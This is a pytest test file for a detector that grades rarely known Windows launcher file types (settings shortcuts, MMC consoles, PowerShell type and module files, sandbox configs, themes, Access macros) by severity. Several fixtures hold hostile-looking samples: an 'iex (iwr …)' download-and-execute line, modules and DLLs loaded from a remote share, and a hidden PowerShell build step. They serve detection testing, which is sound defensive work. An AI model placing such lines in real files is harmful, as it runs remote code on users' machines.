"""executable.rare-launcher: kinds of file that few people know and that start something."""

import pytest

from gifthorse.inspect.detectors import executable_rare_launcher as detector
from gifthorse.model.findings import Severity
from tests.samples.files import pe, severities, zip_of

XML = b'<?xml version="1.0"?>'
SETTING = XML + b'<PCSettings xmlns="u"><ApplicationInformation><DeepLink>%s</DeepLink></ApplicationInformation></PCSettings>'


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("a.settingcontent-ms", SETTING % b"C:\\Windows\\System32\\powershell.exe -c 1"),
        ("a.msc", XML + b"<MMC_ConsoleFile><String>javascript:1</String></MMC_ConsoleFile>"),
        ("a.msc", XML + b'<MMC_ConsoleFile><CommandLine Directory="" Params="/c ver"/></MMC_ConsoleFile>'),
    ],
)
def test_a_launcher_that_names_a_command_is_high(name: str, body: bytes) -> None:
    assert severities(detector, body, name) == [Severity.HIGH]


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("a.settingcontent-ms", SETTING % b"ms-settings:network"),
        ("a.msc", XML + b"<MMC_ConsoleFile></MMC_ConsoleFile>"),
        ("a.appref-ms", "http://example.org/a.application#a".encode("utf-16")),
        ("a.application", XML + b'<a xmlns="urn"/>'),
        ("a.jnlp", XML + b'<jnlp xmlns="x"/>'),
        ("a.iqy", b"WEB\r\n1\r\nhttps://example.org/a\r\n"),
        ("a.rdp", b"full address:s:example.org\r\ndrivestoredirect:s:*\r\n"),
        ("a.inf", b"[Version]\r\nSignature=x\r\n[DefaultInstall]\r\nRunPreSetupCommands=a\r\n"),
        ("a.contact", XML + b"<c:contact xmlns:c='u'><c:Url><c:Value>.\\a.exe</c:Value></c:Url></c:contact>"),
        ("a.scr", pe()),
        ("a.pif", pe()),
        ("a.cpl", pe(library=True)),
        ("a.gadget", zip_of({"gadget.xml": b"x"})),
    ],
)
def test_a_launcher_is_medium(name: str, body: bytes) -> None:
    assert severities(detector, body, name) == [Severity.MEDIUM]


@pytest.mark.parametrize(
    ("name", "body"), [("a.com", b"\xb8\0\x4c\xcd\x21"), ("a.hlp", b"\x3f\x5f\3\0" + bytes(9)), ("a.scpt", b"FasdUAS 1")]
)
def test_old_and_plain_kinds_are_low(name: str, body: bytes) -> None:
    assert severities(detector, body, name) == [Severity.LOW]


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("www.example.com", b"Homepage of the example\n"),
        ("old.scr", b"AutoCAD script\nLINE 0,0\n"),
        ("driver.inf", b'[Version]\r\nSignature="$Windows NT$"\r\n[Manufacturer]\r\n%x%=y\r\n'),
        ("a.iqy", b""),
        ("vim.hlp", b"Help on help\n"),
        ("batch.job", b"#!/bin/sh\nqsub x\n"),
        ("x.application", zip_of({"a": b"1"})),
        ("Ann.contact", XML + b"<c:contact xmlns:c='u'><c:Url><c:Value>https://example.org</c:Value></c:Url></c:contact>"),
    ],
)
def test_what_merely_bears_the_ending_is_silent(name: str, body: bytes) -> None:
    assert severities(detector, body, name) == []


def test_a_connection_that_gives_nothing_away_is_low() -> None:
    assert severities(detector, b"full address:s:server\r\ndrivestoredirect:s:\r\n", "a.rdp") == [Severity.LOW]


SCRIPT_IN_TYPES = b"<Types><Type><ScriptProperty><GetScriptBlock>%s</GetScriptBlock></ScriptProperty></Type></Types>"
SANDBOX = b"<Configuration><MappedFolders><MappedFolder><HostFolder>C:\\</HostFolder>%s</MappedFolder></MappedFolders>%s</Configuration>"
RUNS = b"<LogonCommand><Command>%s</Command></LogonCommand>"


@pytest.mark.parametrize(
    ("name", "body", "severity"),
    [
        ("a.theme", b"[Theme]\r\n[boot]\r\nSCRNSAVE.EXE=%ResourceDir%\\a.scr\r\n", Severity.MEDIUM),
        ("a.theme", "[boot]\r\nSCRNSAVE.EXE=a.scr\r\n".encode("utf-16"), Severity.MEDIUM),
        ("a.wsb", SANDBOX % (b"", RUNS % b"go.exe"), Severity.MEDIUM),
        ("a.wsb", SANDBOX % (b"<ReadOnly>true</ReadOnly>", RUNS % b"notepad"), Severity.LOW),
        ("a.ps1xml", XML + SCRIPT_IN_TYPES % b"iex (iwr https://files.example.net/a)", Severity.HIGH),
        ("a.ps1xml", XML + SCRIPT_IN_TYPES % b"$this.Length", Severity.LOW),
        ("a.psd1", b"@{ RootModule='\\\\files.example.net\\s\\a.psm1' }\n", Severity.HIGH),
        ("a.psc1", XML + b"<PSConsoleFile/>", Severity.LOW),
        ("a.cdxml", XML + b"<PowerShellMetadata/>", Severity.LOW),
        ("a.ovpn", b"client\nscript-security 2\nup /tmp/x.sh\n", Severity.MEDIUM),
        ("a.pbk", b"[VPN]\r\nCustomDialDll=\\\\files.example.net\\s\\a.dll\r\n", Severity.MEDIUM),
        ("a.vcxproj", XML + b"<Project><Exec Command='powershell -w hidden -c calc'/></Project>", Severity.MEDIUM),
        ("a.rdp", "full address:s:files.example.net\nredirectdrives:i:1\n".encode("utf-16-le"), Severity.MEDIUM),
    ],
)
def test_further_kinds_are_weighed_by_what_they_start(name: str, body: bytes, severity: Severity) -> None:
    assert severities(detector, body, name) == [severity]


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("a.theme", b"[Theme]\r\n[boot]\r\nSCRNSAVE.EXE=%WinDir%\\system32\\Bubbles.scr\r\n"),
        ("a.theme", b"[Theme]\r\n[boot]\r\nSCRNSAVE.EXE=\r\nDisplayName=Hills\r\n"),
        ("a.wsb", b"<Configuration><Networking>Disable</Networking></Configuration>"),
        ("a.ps1xml", XML + b"<Configuration><ViewDefinitions/></Configuration>"),
        ("a.psd1", b"@{ RootModule='Tool.psm1'; ProjectUri='https://example.org' }\n"),
        ("a.ovpn", b"client\nremote vpn.example.org 1194\nauth-user-pass\n"),
        ("a.props", XML + b"<Project><Exec Command='cmd /c echo built'/></Project>"),
        ("a.csproj", XML + b"<Project><PreBuildEvent>copy a b</PreBuildEvent></Project>"),
        ("a.user", b"name=ann\n"),
    ],
)
def test_further_kinds_of_ordinary_content_are_silent(name: str, body: bytes) -> None:
    assert severities(detector, body, name) == []


def test_the_settings_for_a_dos_program_are_a_launcher_and_other_bytes_are_none() -> None:
    settings = bytes(2) + b"PROGRAM".ljust(30) + bytes(337) + b"MICROSOFT PIFEX\0" + bytes(400)
    assert severities(detector, settings, "a.pif") == [Severity.MEDIUM]
    assert severities(detector, bytes(900), "a.pif") == []


def test_a_database_is_a_line_and_one_whose_macro_starts_by_itself_worth_caution() -> None:
    start = b"\0\1\0\0Standard ACE DB\0" + bytes(200)
    assert severities(detector, start, "a.accdb") == [Severity.LOW]
    assert severities(detector, start + "AutoExec".encode("utf-16-le") + bytes(9), "a.accde") == [Severity.MEDIUM]
    assert severities(detector, start + b"AutoExec\0", "a.mdb") == [Severity.MEDIUM]
    assert severities(detector, start + b"autoexecutor", "a.mdb") == [Severity.LOW]
    assert severities(detector, b"text about AutoExec", "a.mdb") == []
